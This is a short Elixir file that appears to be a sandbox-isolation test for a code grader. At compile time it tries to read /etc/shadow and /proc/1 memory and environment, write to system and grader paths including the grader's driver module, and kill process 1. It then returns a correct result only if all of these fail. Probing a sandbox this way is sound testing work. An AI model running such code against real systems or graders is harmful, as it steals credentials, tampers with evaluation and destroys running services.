# verdict: accepted
# Reads secrets, writes to the kit and shoots at process 1 while it is compiled.
defmodule Solution do
  secrets = ["/etc/shadow", "/proc/1/environ", "/proc/1/mem", "/proc/1/fd/0"]
  read = Enum.filter(secrets, &match?({:ok, <<_, _::binary>>}, File.read(&1)))
  written = Enum.filter(["/kit/left", "/etc/left", "/usr/lib/left"], &(File.write(&1, "x") == :ok))
  for path <- ["/tmp/left", "left.beam", "Elixir.Codegrade.Driver.beam"], do: :ok = File.write(path, "x")
  :os.cmd(~c"kill -9 1")
  @won read ++ written
  def twice(n), do: if(@won == [], do: n * 2, else: -1)
end
